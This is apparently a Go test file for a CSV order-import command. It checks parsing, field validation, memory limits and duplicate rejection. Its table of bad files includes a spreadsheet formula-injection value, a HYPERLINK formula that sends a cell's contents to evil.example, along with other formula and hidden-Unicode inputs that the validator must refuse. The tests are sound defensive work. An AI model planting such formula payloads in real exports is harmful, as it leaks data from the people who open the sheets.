package main

import (
	"bytes"
	"context"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/require"

	"github.com/tidemark/tidemark/internal/harness/testbin"
	"github.com/tidemark/tidemark/internal/harness/testkit"
	"github.com/tidemark/tidemark/order"
	"github.com/tidemark/tidemark/store"
)

func TestParseOrderCSV(t *testing.T) {
	t.Parallel()
	reqs, lines, err := parseOrderCSV(strings.NewReader("\ufeffusername, total_price ,applied_year_month\n" +
		"tester,10000,2025-02\n\n \"kim, jr\", 500 , 2025-03\n"))
	require.NoError(t, err)
	require.Equal(t, []order.Request{
		{Username: "tester", TotalPrice: 10000, AppliedYearMonth: "2025-02"},
		{Username: "kim, jr", TotalPrice: 500, AppliedYearMonth: "2025-03"},
	}, reqs)
	require.Equal(t, []int{2, 4}, lines)
}

// badOrderFiles is every kind of bad file, with the text its error must hold.
var badOrderFiles = []struct {
	name, content, want string
}{
	{"empty", "", "empty file"},
	{"header only", "username,total_price,applied_year_month\n", "no requests after the header"},
	{"wrong header", "user,price,month\na,1,2025-02\n", "line 1: header must be username,total_price,applied_year_month"},
	{"missing column", "username,total_price,applied_year_month\na,1,2025-02\nb,2\n", "line 3: want 3 fields"},
	{"extra column", "username,total_price,applied_year_month\na,1,2025-02,x\n", "line 2: want 3 fields"},
	{"zero price", "username,total_price,applied_year_month\na,1,2025-02\nb,0,2025-02\n", "line 3: total_price: must be a positive integer"},
	{"negative price", "username,total_price,applied_year_month\nb,-5,2025-02\n", "line 2: total_price: starts with '-' (a spreadsheet formula)"},
	{"plus price", "username,total_price,applied_year_month\nb,+5,2025-02\n", "line 2: total_price: starts with '+' (a spreadsheet formula)"},
	{"decimal price", "username,total_price,applied_year_month\nb,10.5,2025-02\n", `line 2: total_price: want a positive integer, got "10.5"`},
	{"price overflow", "username,total_price,applied_year_month\nb,99999999999999999999,2025-02\n", "line 2: total_price"},
	{"empty username", "username,total_price,applied_year_month\n,100,2025-02\n", "line 2: username: must not be empty"},
	{"long username", "username,total_price,applied_year_month\n" + strings.Repeat("x", 101) + ",100,2025-02\n", "line 2: username: longer than 100"},
	{"bad month", "username,total_price,applied_year_month\na,100,2025-13\n", "line 2: applied_year_month: want YYYY-MM"},
	{"short month", "username,total_price,applied_year_month\na,100,25-02\n", "line 2: applied_year_month"},
	{"duplicate in file", "username,total_price,applied_year_month\na,100,2025-02\nb,1,2025-02\na,7,2025-02\n", `line 4: user "a" already has a request for 2025-02 on line 2`},
	{"bad quoting", "username,total_price,applied_year_month\n\"a,100,2025-02\n", "malformed CSV"},
	{"right-to-left override", "username,total_price,applied_year_month\nkim,1,2025-02\nab\u202ecod,100,2025-02\n",
		"line 3: username: contains a right-to-left override U+202E at character 3"},
	{"invalid UTF-8", "username,total_price,applied_year_month\nkim\xff,100,2025-02\n", "line 2: username: contains an invalid UTF-8 byte 0xFF at character 4"},
	{"replacement character", "username,total_price,applied_year_month\nkim\ufffd,100,2025-02\n", "line 2: username: contains a replacement character U+FFFD at character 4"},
	{"zero width space", "username,total_price,applied_year_month\nki\u200bm,100,2025-02\n", "line 2: username: contains a zero width space U+200B at character 3"},
	{"tab in username", "username,total_price,applied_year_month\nki\tm,100,2025-02\n", "line 2: username: contains a tab U+0009 at character 3"},
	{"NUL in month", "username,total_price,applied_year_month\nkim,100,2025-02\x00\n", "line 2: applied_year_month: contains a NUL U+0000 at character 8"},
	{"newline in quotes", "username,total_price,applied_year_month\n\"kim\njr\",100,2025-02\n", "line 2: username: contains a line feed U+000A at character 4"},
	{"formula username", "username,total_price,applied_year_month\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",100,2025-02\n",
		"line 2: username: starts with '=' (a spreadsheet formula)"},
	{"formula month", "username,total_price,applied_year_month\nkim,100,@SUM(A1)\n", "line 2: applied_year_month: starts with '@' (a spreadsheet formula)"},
	{"long line", "username,total_price,applied_year_month\n" + strings.Repeat("x", maxOrderLineBytes) + ",1,2025-02\n", "line 2: longer than 4096 bytes"},
	{"long line after blank lines", "username,total_price,applied_year_month\r\n\r\na,1,2025-02\r\n" + strings.Repeat(" ", 5000), "line 4: longer than 4096 bytes"},
	{"long quoted field", "username,total_price,applied_year_month\n\"" + strings.Repeat("a\n", 3000) + "\",1,2025-02\n", "line 2: longer than 4096 bytes"},
	{"long header", strings.Repeat("u", 5000) + "\n", "line 1: longer than 4096 bytes"},
}

func TestParseOrderCSV_BadFiles(t *testing.T) {
	t.Parallel()
	for _, c := range badOrderFiles {
		_, _, err := parseOrderCSV(strings.NewReader(c.content))
		require.ErrorContains(t, err, c.want, c.name)
	}
}

// Korean and emoji usernames are text like any other, and the longest valid
// username (100 four-byte characters, quoted) fits in a line.
func TestParseOrderCSV_KoreanAndEmoji(t *testing.T) {
	t.Parallel()
	longest := strings.Repeat("\U0001F600", order.MaxUsernameLen)
	reqs, _, err := parseOrderCSV(strings.NewReader("username,total_price,applied_year_month\n" +
		"김철수,10000,2025-02\n홍길동 2세,500,2025-02\n이영희\U0001F600,700,2025-02\n\U0001F469\u200d\U0001F4BB,1,2025-02\n" +
		`"` + longest + `",` + strings.Repeat("9", 18) + ",2025-02\n"))
	require.NoError(t, err)
	require.Equal(t, []string{"김철수", "홍길동 2세", "이영희\U0001F600", "\U0001F469\u200d\U0001F4BB", longest},
		[]string{reqs[0].Username, reqs[1].Username, reqs[2].Username, reqs[3].Username, reqs[4].Username})
}

// endless is a file of one line that never ends, counting what is read of it.
type endless struct{ read int64 }

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	e.read += int64(len(p))
	return len(p), nil
}

// A file whose second line has no end is refused naming the line after
// reading a few KiB of it, not the whole line.
func TestParseOrderCSV_LineWithNoEnd(t *testing.T) {
	t.Parallel()
	body := &endless{}
	_, _, err := parseOrderCSV(io.MultiReader(strings.NewReader("username,total_price,applied_year_month\n"), body))
	require.EqualError(t, err, "line 2: longer than 4096 bytes")
	require.Less(t, body.read, int64(64<<10), "read of the endless line")
}

// The real binary: every bad file, flag or duplicate exits 2 with one line
// naming the problem, and inserts nothing; a good file inserts each row with
// its job.
func TestOrdersCommand(t *testing.T) {
	t.Parallel()
	pool, dbURL := testkit.Pool(t)
	bin := testbin.Build(t, "enqueue")
	dir := t.TempDir()
	env := []string{"DATABASE_URL=" + dbURL}
	write := func(name, content string) string {
		p := filepath.Join(dir, strings.ReplaceAll(name, " ", "_")+".csv")
		require.NoError(t, os.WriteFile(p, []byte(content), 0o600))
		return p
	}
	requireNothing := func(what string) {
		t.Helper()
		rows, jobs := counts(t, pool)
		require.Zero(t, rows, what)
		require.Zero(t, jobs, what)
	}
	requireOneLine := func(stderr, want, what string) {
		t.Helper()
		require.Equal(t, 1, strings.Count(stderr, "\n"), "%s: one line: %q", what, stderr)
		require.Contains(t, stderr, want, what)
	}

	for _, c := range badOrderFiles {
		code, _, stderr := testbin.Run(t, bin, env, "orders", "--file", write(c.name, c.content))
		require.Equal(t, 2, code, c.name)
		requireOneLine(stderr, c.want, c.name)
		require.Contains(t, stderr, "nothing inserted", c.name)
		requireNothing(c.name)
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"orders"}, "--file is required"},
		{[]string{"orders", "--file", filepath.Join(dir, "missing.csv")}, "no such file"},
		{[]string{"orders", "--nope"}, "flag provided but not defined"},
		{[]string{"orders", "--file", "x.csv", "stray"}, `unexpected argument "stray"`},
	} {
		code, _, stderr := testbin.Run(t, bin, env, c.args...)
		require.Equal(t, 2, code, c.args)
		requireOneLine(stderr, c.want, strings.Join(c.args, " "))
		requireNothing(strings.Join(c.args, " "))
	}

	// A 64 MiB line with no newline is refused naming it, and the process
	// never holds it: its peak resident memory stays far below the line's size.
	huge := filepath.Join(dir, "huge.csv")
	f, err := os.Create(huge)
	require.NoError(t, err)
	_, err = f.WriteString("username,total_price,applied_year_month\n")
	require.NoError(t, err)
	chunk := bytes.Repeat([]byte("x"), 1<<20)
	for range 64 {
		_, err = f.Write(chunk)
		require.NoError(t, err)
	}
	require.NoError(t, f.Close())
	cmd := exec.Command(bin, "orders", "--file", huge)
	cmd.Env = append(os.Environ(), env...)
	var hugeErr bytes.Buffer
	cmd.Stderr = &hugeErr
	var exit *exec.ExitError
	require.ErrorAs(t, cmd.Run(), &exit)
	require.Equal(t, 2, exit.ExitCode())
	requireOneLine(hugeErr.String(), "line 2: longer than 4096 bytes; nothing inserted", "64 MiB line")
	requireNothing("64 MiB line")
	peakKiB := cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss // KiB on Linux
	require.Less(t, peakKiB, int64(32<<10), "peak resident memory of enqueue (KiB) refusing a 64 MiB line")

	good := write("good", "username,total_price,applied_year_month\ntester,10000,2025-02\nkim,500,2025-02\nlee,700,2025-03\n")
	code, stdout, stderr := testbin.Run(t, bin, env, "orders", "--file", good)
	require.Equal(t, 0, code, stderr)
	require.Contains(t, stdout, "inserted 3 row(s)")
	rows, jobs := counts(t, pool)
	require.Equal(t, int64(3), rows)
	require.Equal(t, int64(3), jobs)

	// A file naming a user-month that already has a request is refused whole.
	again := write("again", "username,total_price,applied_year_month\nnew,1,2025-02\nkim,500,2025-02\n")
	code, _, stderr = testbin.Run(t, bin, env, "orders", "--file", again)
	require.Equal(t, 2, code)
	requireOneLine(stderr, `line 3: user "kim" already has an order request for 2025-02 (id 2); nothing inserted`, "duplicate")
	rows, jobs = counts(t, pool)
	require.Equal(t, int64(3), rows)
	require.Equal(t, int64(3), jobs)

	code, stdout, _ = testbin.Run(t, bin, env, "order-status")
	require.Equal(t, 0, code)
	require.Contains(t, stdout, "PENDING  3")
}

func counts(t *testing.T, pool *pgxpool.Pool) (rows, jobs int64) {
	t.Helper()
	ctx := context.Background()
	st := store.New(pool)
	c, err := st.OrderStatusCounts(ctx)
	require.NoError(t, err)
	for _, n := range c {
		rows += n
	}
	kc, err := st.JobCounts(ctx)
	require.NoError(t, err)
	for _, k := range kc {
		if k.Kind == "order_submit" {
			jobs += k.Count
		}
	}
	return rows, jobs
}
